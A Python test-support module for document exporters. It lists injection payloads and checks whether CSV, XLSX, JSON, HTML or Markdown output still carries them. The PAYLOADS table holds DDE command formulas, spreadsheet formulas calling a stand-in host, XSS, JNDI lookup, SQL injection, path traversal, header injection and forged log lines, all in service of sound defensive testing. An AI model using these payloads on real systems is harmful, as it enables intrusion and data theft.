"""Texts that do harm where they are written without care, and what tells whether an output was written with care.

For authors of exporters: write :func:`poisoned` extractions with the exporter, and ask :func:`dangers` of the output.

>>> sorted(PAYLOADS)[:3]
['ansi colour', 'ansi title', 'at']
>>> dangers(b"unit,rent\\n'=1+1,-5.25\\n", "text/csv")
[]
>>> dangers(b"unit,rent\\n=1+1,-5.25\\n", "text/csv")
["'=1+1' begins like a formula"]
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import json
import re
import typing
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from html.parser import HTMLParser
from typing import Any, TypeVar

from pydantic import BaseModel

T = TypeVar("T")

PAYLOADS: dict[str, str] = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "full-width minus": "\uff0d1+1",
    "full-width at": "\uff20SUM(A1)",
    "dde": "=cmd|'/C calc'!A0",
    "dde with a sign": "+cmd|'/C calc'!A0",
    "dde by name": "@SUM(1+1)*cmd|'/C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "web service": '=WEBSERVICE("http://example.invalid/")',
    "import": '=IMPORTXML("http://example.invalid/","//a")',
    "formula behind a comma": "x,=1+1",
    "formula behind a semicolon": "x;=1+1",
    "formula behind a tab": "x\t=1+1",
    "formula on a second line": "x\n=1+1",
    "formula behind quotes": '","=1+1',
    "formula behind single quotes": "';=1+1",
    "formula behind a null": "\x00=1+1",
    "quotes": '"; x "" y',
    "lines": "one\ntwo\r\nthree\rfour\u2028five\u2029six\x85seven\x0beight\x0cnine",
    "forged log line": "x\n2026-01-01 00:00:00,000 INFO docextract.http.access 1 POST /v1/api-keys 201 1.0ms key=admin",
    "forged log line of unicode": "x\u2028ERROR docextract internal error",
    "ansi colour": "\x1b[31mred\x1b[0m",
    "ansi title": "\x1b]0;title\x07",
    "ansi screen": "\x1b[2J\x1b[H\x1b[8m",
    "ansi of one byte": "\x9b31mred\x9b0m",
    "ansi device": "\x1bP+q544e\x1b\\",
    "hyperlink of a terminal": "\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\",
    "backspaces": "PASS\x08\x08\x08\x08FAIL",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "bidi override": "\u202egnp.exe\u202c",
    "bidi isolate": "\u2066x\u2069\u2067y\u2069\u200e\u200f\u061c",
    "script": "<script>alert(1)</script>",
    "script in an attribute": '"><img src=x onerror=alert(1)>',
    "end of a script": "</script><script>alert(1)</script>",
    "comment": "--><svg onload=alert(1)>",
    "entity": "&lt;b&gt;&amp;&#60;",
    "markdown link": "[x](javascript:alert(1)) ![x](http://example.invalid/x.png)",
    "cell of a table": "a | b | c",
    "xml": "]]><x/>&x;",
    "spreadsheet escape": "_x001B_[31m_x000A_",
    "surrogate": "a\ud800b",
    "no character": "a\ufffe\uffffb",
    "json": '"},{"x":"',
    "format": "%s %n {0} {x} ${jndi:ldap://example.invalid/a}",
    "path": "../../etc/passwd",
    "sql": "'; DROP TABLE keys; --",
    "header": "x\r\nSet-Cookie: a=b",
    "long": "x" * 40_000,
}
"""The texts, by what each of them tries."""

_NUMBER = re.compile(r"-?\d+(\.\d+)?", re.ASCII)
_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\x00")
_INNER = re.compile("[;\t\r\n]\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
_NOT_PLAIN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def poisoned(value: T, text: str) -> T:
    """The value with the text in the place of every free text in it; names from a fixed list and numbers stay.

    Takes extractions, statements, rows, findings, and lists and mappings of them.
    """
    if isinstance(value, BaseModel):
        fields = {name: _in_field(getattr(value, name), field.annotation, text)
                  for name, field in type(value).model_fields.items()}  # fmt: skip
        return value.model_copy(update=fields)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        hints = _hints(type(value))
        return dataclasses.replace(
            value,
            **{f.name: _in_field(getattr(value, f.name), hints[f.name], text)
               for f in dataclasses.fields(value) if f.init},
        )  # fmt: skip
    if hasattr(value, "ANSWER"):  # an extraction: its parts are plain attributes
        made = copy.copy(value)
        for name in [*vars(value), "meta"]:
            part = getattr(value, name)
            if not isinstance(part, str) and name != "grids":
                setattr(made, name, poisoned(part, text))
        return made
    return typing.cast("T", _in_field(value, None, text))


def dangers(written: bytes, media_type: str) -> list[str]:
    """What an output would do that no output may do; empty if it was written with care.

    Args:
        written: the output.
        media_type: its type: CSV, TSV, XLSX, JSON, plain text, HTML or Markdown.

    Raises:
        ValueError: nothing is known of outputs of this type.
    """
    name = media_type.partition(";")[0].strip().lower()
    if name not in _LOOKS:
        raise ValueError(f"nothing is known of outputs of the type {media_type!r}; there are: {', '.join(_LOOKS)}")
    return list(dict.fromkeys(_LOOKS[name](written)))


@cache
def _hints(kind: type) -> dict[str, Any]:
    return typing.get_type_hints(kind)


def _in_field(value: Any, annotation: Any, text: str) -> Any:
    if isinstance(value, str):
        return text if annotation is None or _is_free(annotation) else value
    if isinstance(value, list):
        return [_in_field(item, _item(annotation), text) for item in value]
    if isinstance(value, tuple) and not hasattr(value, "_fields"):
        return tuple(_in_field(item, _item(annotation), text) for item in value)
    if isinstance(value, dict):
        return {key: _in_field(item, None if annotation is None else str, text) for key, item in value.items()}
    if isinstance(value, BaseModel) or (dataclasses.is_dataclass(value) and not isinstance(value, type)):
        return poisoned(value, text)
    return value


@cache
def _is_free(annotation: Any) -> bool:
    """Whether a field takes any text, and not one of a fixed list."""
    if annotation is str:
        return True
    if typing.get_origin(annotation) is typing.Literal:
        return False
    return any(_is_free(part) for part in typing.get_args(annotation))


def _item(annotation: Any) -> Any:
    return annotation if annotation is None or _is_free(annotation) else typing.Literal[""]


def _separated(delimiter: str) -> Callable[[bytes], Iterator[str]]:
    def look(written: bytes) -> Iterator[str]:
        text = written.decode("utf-8")
        before = csv.field_size_limit(len(text) + 1)
        try:
            lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
        finally:
            csv.field_size_limit(before)
        if len({len(line) for line in lines}) > 1:
            yield "lines of different lengths"
        if "\r" in text.replace("\r\n", ""):
            yield "a carriage return that some readers take for the end of a line"
        for line in lines:
            for field in line:
                if field.startswith(_FORMULA) and not _NUMBER.fullmatch(field):
                    yield f"{field[:40]!r} begins like a formula"
                if _INNER.search(field):
                    yield f"{field[:40]!r} begins like a formula where it is divided otherwise"
                if _NOT_XML.search(field):
                    yield f"{field[:40]!r} holds control characters"

    return look


_LINK = re.compile(rb"<(?:\w+:)?hyperlink [^>]*>")
_FORMULAS = re.compile(rb"<(?:\w+:)?f(?:>| [^>]*>)([^<]*)<")
_SUM = r"SUM\((?:(?:'[A-Z][a-z ]+'!)?[A-Z\d:]+,?)+\)"
_SUMS = re.compile(rf"[-+]?{_SUM}(?:[-+]{_SUM})*".encode())
"""The one kind of formula that is harmless: sums of cells of the workbook, by their addresses alone."""


def _workbook(written: bytes) -> Iterator[str]:
    import openpyxl

    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        for part in archive.namelist():
            if re.search(r"externalLink|vbaProject|connections|oleObject|activeX|embeddings", part):
                yield f"the part {part}"
            text = archive.read(part)
            if re.search(rb'TargetMode="External"|<(?:\w+:)?ddeLink[ >/]', text):
                yield f"a link in {part}"
            if any(b"location=" not in link or b"id=" in link for link in _LINK.findall(text)):
                yield f"a link out of the workbook in {part}"
            if not all(map(_SUMS.fullmatch, _FORMULAS.findall(text))):
                yield f"a formula in {part}"
    for sheet in openpyxl.load_workbook(io.BytesIO(written)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    if not _SUMS.fullmatch(str(cell.value)[1:].encode()):
                        yield f"{sheet.title}!{cell.coordinate} is a formula"
                    continue
                if cell.hyperlink is not None and cell.hyperlink.target is not None:
                    yield f"{sheet.title}!{cell.coordinate} is a link"
                if isinstance(cell.value, str) and cell.value.startswith(_FORMULA) and not cell.quotePrefix:
                    yield f"{cell.value[:40]!r} becomes a formula once it is edited"
                if isinstance(cell.value, str) and _NOT_XML.search(cell.value):
                    yield f"{cell.value[:40]!r} holds control characters"


def _json(written: bytes) -> Iterator[str]:
    text = written.decode("utf-8")
    json.loads(text)
    if found := _NOT_PLAIN.search(text.replace("\r\n", "\n")):
        yield f"{found[0]!r} as it stands"


def _plain(written: bytes) -> Iterator[str]:
    text = written.decode("utf-8")
    if found := _NOT_PLAIN.search(text):
        yield f"{found[0]!r} as it stands"


def _html(written: bytes) -> Iterator[str]:
    told: list[str] = []

    class Look(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("script", "img", "svg", "iframe", "object"):
                told.append(f"<{tag}>")
            told.extend(f"{name}=" for name, _ in attrs if name.startswith("on"))
            told.extend(f"{name} of javascript" for name, value in attrs if "javascript:" in (value or ""))

    Look().feed(written.decode("utf-8"))
    yield from told


def _markdown(written: bytes) -> Iterator[str]:
    text = written.decode("utf-8")
    yield from _plain(written)
    if re.search(r"(?<!\\)<\w|(?<!\\)\]\((?:javascript|http)", text):
        yield "HTML or a link of a document"


_LOOKS: dict[str, Callable[[bytes], Iterator[str]]] = {
    "text/csv": _separated(","),
    "text/tab-separated-values": _separated("\t"),
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": _workbook,
    "application/json": _json,
    "text/plain": _plain,
    "text/html": _html,
    "text/markdown": _markdown,
}

__all__ = ["PAYLOADS", "dangers", "poisoned"]
